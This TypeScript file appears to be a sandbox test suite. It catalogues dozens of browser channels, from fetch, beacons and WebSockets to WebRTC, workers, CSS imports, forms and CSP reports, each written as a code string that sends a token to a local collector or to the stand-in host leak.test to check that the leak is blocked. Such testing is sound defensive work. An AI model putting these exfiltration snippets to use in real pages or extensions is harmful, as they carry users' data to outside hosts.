import type { Attack } from '../attack'

/** Ways out that a worker may know. Each is tried where extensions run, and again with every global still in its place. */
const ways: readonly (readonly [id: string, title: string, code: string])[] = [
  ['fetch', 'fetch to another host', `await settle(fetch(url('fetch'), { mode: 'no-cors' }))`],
  [
    'fetch-keepalive',
    'fetch that outlives the page',
    `await settle(fetch(url('keepalive'), { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }))`,
  ],
  [
    'fetch-own',
    "fetch to a path of the frame's own origin, with data in the query",
    `await settle(fetch(new URL('/b/?' + TARGET.token, TARGET.victim.origin), { mode: 'no-cors' })); await settle(fetch(localUrl('own'), { mode: 'no-cors' }))`,
  ],
  ['fetch-later', 'a deferred fetch', `fetchLater(url('later'), { activateAfter: 0 }); await wait(300)`],
  [
    'xhr',
    'XMLHttpRequest',
    `const request = new XMLHttpRequest(); request.open('GET', url('xhr')); request.send(); await wait(300)`,
  ],
  [
    'xhr-sync',
    'XMLHttpRequest that blocks',
    `const request = new XMLHttpRequest(); request.open('GET', url('sync'), false); request.send()`,
  ],
  ['websocket', 'a WebSocket', `new WebSocket(socketUrl('ws')); await wait(300)`],
  ['websocket-stream', 'a WebSocketStream', `await settle(new WebSocketStream(socketUrl('wss')).opened, 300)`],
  ['eventsource', 'an EventSource', `new EventSource(url('events')); await wait(300)`],
  [
    'webtransport',
    'WebTransport',
    `await settle(new WebTransport('https://127.0.0.1:' + TARGET.collectorPort + '/').ready, 400)`,
  ],
  ['beacon', 'navigator.sendBeacon', `navigator.sendBeacon(url('beacon'), 'x'); await wait(200)`],
  ['import-scripts', 'importScripts of a foreign script', `importScripts(url('script.js'))`],
  ['import', 'a dynamic import', `await settle(import(url('module.js')), 600)`],
  [
    'import-data',
    'a dynamic import of a data: URL that fetches',
    `await settle(import('data:text/javascript,fetch(' + JSON.stringify(url('data')) + ',{mode:"no-cors"})'), 600)`,
  ],
  [
    'import-blob',
    'a dynamic import of a Blob that fetches',
    `const blob = URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(url('blob')) + ',{mode:"no-cors"})'], { type: 'text/javascript' })); await settle(import(blob), 600)`,
  ],
  [
    'nested-worker',
    'a nested worker that fetches',
    `const blob = URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(url('nested')) + ',{mode:"no-cors"})'], { type: 'text/javascript' })); new Worker(blob); await wait(500)`,
  ],
  [
    'nested-worker-data',
    'a nested worker from a data: URL',
    `new Worker('data:text/javascript,fetch(' + JSON.stringify(url('nested-data')) + ',{mode:"no-cors"})'); await wait(500)`,
  ],
  ['nested-worker-remote', 'a nested worker from another host', `new Worker(url('worker.js')); await wait(400)`],
  [
    'nested-module-worker',
    'a nested module worker that imports from another host',
    `const blob = URL.createObjectURL(new Blob(['import ' + JSON.stringify(url('module.js'))], { type: 'text/javascript' })); new Worker(blob, { type: 'module' }); await wait(500)`,
  ],
  ['shared-worker', 'a shared worker', `new SharedWorker(url('shared.js')); await wait(400)`],
  ['service-worker', 'a service worker', `await settle(navigator.serviceWorker.register(url('sw.js')), 500)`],
  [
    'background-fetch',
    'a background fetch',
    `await settle(registration.backgroundFetch.fetch('x', [url('background')]), 500)`,
  ],
  [
    'font',
    'a font',
    `const font = new FontFace('x', 'url(' + url('font.woff2') + ')'); self.fonts.add(font); await settle(font.load(), 500)`,
  ],
  [
    'webrtc',
    'WebRTC to a STUN and a TURN server',
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:' + TARGET.collectorPort, 'turn:127.0.0.1:' + TARGET.collectorPort + '?transport=tcp'], username: 'a', credential: 'b' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await wait(700)`,
  ],
  ['direct-sockets', 'a raw socket', `await settle(new TCPSocket('127.0.0.1', TARGET.collectorPort).opened, 400)`],
  [
    'cache-add',
    'the Cache API, which fetches',
    `const cache = await caches.open('x'); await settle(cache.add(url('cache')), 500)`,
  ],
  [
    'wasm-streaming',
    'WebAssembly that streams from another host',
    `await settle(WebAssembly.compileStreaming(fetch(url('module.wasm'))), 500)`,
  ],
  [
    'dns',
    'a name that is only resolved',
    `await attempt('fetch', () => settle(fetch(dns('fetch'), { mode: 'no-cors' }), 400)); await attempt('socket', () => new WebSocket(dns('socket').replace('https', 'wss'))); await wait(300)`,
  ],
  [
    'report',
    'a violation report that goes to the attacker',
    `const response = new Response('x', { headers: { 'report-to': '{"group":"x","max_age":9,"endpoints":[{"url":"' + url('report') + '"}]}' } }); await attempt('fetch', () => fetch('https://' + TARGET.token + '.leak.test/report')); await wait(300)`,
  ],
  [
    'sourcemap',
    'a source map on another host',
    `(0, eval)('1;//# sourceMappingURL=' + url('map.js')); new Function('return 1;//# sourceMappingURL=' + url('map2.js'))(); await wait(300)`,
  ],
  [
    'error-stack',
    'a stack whose source has an address of the attacker',
    `setTimeout(() => { const error = new Error('x'); error.stack = 'Error: x\\n    at f (' + url('stack.js') + ':1:1)'; console.error(error) }, 0); await wait(300)`,
  ],
  [
    'form-data',
    'a Request with a stream body',
    `await settle(fetch(new Request(url('stream'), { method: 'POST', duplex: 'half', body: new ReadableStream({ start(c) { c.enqueue(new Uint8Array(9)); c.close() } }) })), 500)`,
  ],
  ['push', 'a push subscription', `await settle(registration.pushManager.subscribe({ userVisibleOnly: true }), 400)`],
  [
    'image-bitmap',
    'an image decoded from a foreign address',
    `const decoder = new ImageDecoder({ type: 'image/png', data: (await fetch(url('image.png'))).body }); await decoder.decode()`,
  ],
]

/** Ways out that need a document, for the day on which worker and relay have both fallen. */
const fromFrame: readonly (readonly [id: string, title: string, code: string, rest?: Partial<Attack>])[] = [
  ['fetch', 'the frame fetches', `await settle(fetch(url('fetch'), { mode: 'no-cors' }))`],
  [
    'fetch-b',
    'the frame carries data in the name of a bundle',
    `await settle(fetch('/b/' + TARGET.token + '?leak=1')); await settle(fetch(localUrl('b/x.js')))`,
  ],
  ['image', 'the frame loads an image', `tag('img', { src: url('image.png') }); await wait(300)`],
  [
    'script',
    'the frame loads a script',
    `attempt('script', () => tag('script', { src: url('script.js') })); await wait(300)`,
  ],
  [
    'style',
    'the frame loads a style sheet',
    `tag('link', { rel: 'stylesheet', href: url('style.css') }); await wait(300)`,
  ],
  [
    'css-import',
    'the frame imports a style',
    `tag('style', { textContent: '@import "' + url('import.css') + '"; body { background: url(' + url('bg.png') + ') }' }); await wait(300)`,
  ],
  [
    'inline-style',
    'the frame styles an element with an image',
    `document.body.style.backgroundImage = 'url(' + url('bg.png') + ')'; document.body.style.cssText += ';height:99px'; await wait(300)`,
  ],
  [
    'font',
    'the frame loads a font',
    `const font = new FontFace('x', 'url(' + url('font.woff2') + ')'); document.fonts.add(font); await settle(font.load(), 500)`,
  ],
  [
    'media',
    'the frame loads a video',
    `tag('video', { src: url('video.mp4'), autoplay: true, preload: 'auto' }).load(); await wait(300)`,
  ],
  [
    'object',
    'the frame loads an object and an embed',
    `tag('object', { data: url('object') }); tag('embed', { src: url('embed') }); await wait(300)`,
  ],
  ['inner-frame', 'the frame frames the attacker', `tag('iframe', { src: url('frame') }); await wait(400)`],
  [
    'srcdoc',
    'the frame frames a document of its own that loads an image',
    `attempt('srcdoc', () => tag('iframe', { srcdoc: '<img src="' + url('srcdoc.png') + '">' })); await wait(400)`,
  ],
  [
    'manifest',
    'the frame names a web app manifest',
    `tag('link', { rel: 'manifest', href: url('manifest.json') }); await wait(300)`,
  ],
  [
    'preload',
    'the frame preloads',
    `for (const as of ['script', 'style', 'image', 'fetch', 'font']) tag('link', { rel: 'preload', as, href: url('preload-' + as), crossOrigin: 'anonymous' }); tag('link', { rel: 'modulepreload', href: url('mp.js') }); await wait(400)`,
  ],
  ['prefetch', 'the frame prefetches', `tag('link', { rel: 'prefetch', href: url('prefetch') }); await wait(500)`],
  [
    'prerender',
    'the frame asks for speculation',
    `attempt('rules', () => tag('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [url('speculate')] }] }) })); tag('link', { rel: 'prerender', href: url('prerender') }); await wait(500)`,
  ],
  [
    'ping',
    'the frame clicks a link with a ping',
    `const link = tag('a', { href: '#x', ping: url('ping') }); link.click(); await wait(300)`,
    { allows: ['history'] },
  ],
  [
    'form',
    'the frame posts a form',
    `const form = tag('form', { action: url('form'), method: 'post' }); form.submit(); await wait(400)`,
  ],
  [
    'worker',
    'the frame starts a worker that fetches',
    `attempt('worker', () => new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(url('worker')) + ',{mode:"no-cors"})'])))); await wait(400)`,
  ],
  ['beacon', 'the frame sends a beacon', `navigator.sendBeacon(url('beacon'), 'x'); await wait(300)`],
  ['websocket', 'the frame opens a WebSocket', `new WebSocket(socketUrl('ws')); await wait(300)`],
  ['eventsource', 'the frame opens an EventSource', `new EventSource(url('events')); await wait(300)`],
  [
    'report-uri',
    'the frame sets a policy of its own that reports to the attacker',
    `tag('meta', { httpEquiv: 'Content-Security-Policy', content: "img-src 'none'; report-uri " + url('csp') }); document.head.append(document.querySelector('meta[http-equiv]')); tag('img', { src: '/x.png' }); await wait(400)`,
  ],
  [
    'service-worker',
    'the frame registers a service worker',
    `await settle(navigator.serviceWorker.register('/b/sw.js'), 500)`,
  ],
  ['import', 'the frame imports a module', `await settle(import(url('module.js')), 500)`],
  [
    'refresh',
    'the frame refreshes itself away',
    `const meta = tag('meta', { httpEquiv: 'refresh', content: '0;url=' + url('refresh') }); document.head.append(meta); await wait(800)`,
    { alone: true, settleMs: 800 },
  ],
  [
    'navigate',
    'the frame navigates itself with data in the address',
    `location.href = url('navigate?data'); await wait(800)`,
    { alone: true, settleMs: 800 },
  ],
  [
    'webrtc',
    'the frame opens a peer connection',
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:' + TARGET.collectorPort, 'turn:127.0.0.1:' + TARGET.collectorPort + '?transport=tcp'], username: 'a', credential: 'b' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await wait(700)`,
    {
      notBlockable: {
        modes: ['origin', 'opaque'],
        because:
          'No header of a document forbids WebRTC in the browsers of today. A worker has no WebRTC, so this needs the fall of worker and relay first.',
      },
    },
  ],
  ['preconnect', 'the frame connects ahead', `tag('link', { rel: 'preconnect', href: url('') }); await wait(500)`],
  [
    'dns-prefetch',
    'the frame has a name resolved',
    `tag('link', { rel: 'dns-prefetch', href: dns('prefetch') }); tag('a', { href: dns('anchor'), textContent: 'x' }); await wait(500)`,
  ],
]

export const network: readonly Attack[] = [
  ...ways.flatMap(([id, title, code]): readonly Attack[] => [
    { id: `net-${id}`, title, theme: 'network', code },
    {
      id: `net-${id}-unfiltered`,
      title: `${title}, with every global in place`,
      theme: 'network',
      realm: 'unfiltered',
      code,
    },
  ]),
  ...fromFrame.map(
    ([id, title, code, rest]): Attack => ({
      id: `frame-${id}`,
      title,
      theme: 'network',
      realm: 'frame',
      code,
      ...rest,
    }),
  ),
]
